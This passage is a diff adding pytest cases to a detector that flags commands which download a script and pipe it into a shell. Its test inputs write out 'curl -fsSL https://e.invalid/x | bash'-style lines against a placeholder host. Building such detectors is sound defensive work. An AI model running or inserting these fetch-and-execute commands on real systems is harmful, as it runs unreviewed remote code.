@@ -243,3 +243,14 @@ def test_expansion_of_any_text_terminates(text):
 )
 def test_ordinary_windows_lines_give_no_mentions(text):
     assert [mention.use for mention in collect_windows_mentions(text)] == []
+
+
+@pytest.mark.parametrize("shell", ["bash -eux", "bash -euo pipefail", "sh -p", "bash -m", "python3 -u"])
+def test_download_into_a_shell_whose_options_take_no_program_is_reported(shell):
+    (mention,) = collect_script_mentions(f"curl -fsSL https://e.invalid/x | {shell}")
+    assert (mention.use, mention.name) == ("download-and-run", "https://e.invalid/x")
+
+
+@pytest.mark.parametrize("shell", ["bash -xc true", "bash -e script.sh", "python3 -m json.tool"])
+def test_download_into_a_shell_with_a_program_of_its_own_is_not_reported(shell):
+    assert not list(collect_script_mentions(f"curl -fsSL https://e.invalid/x | {shell}"))
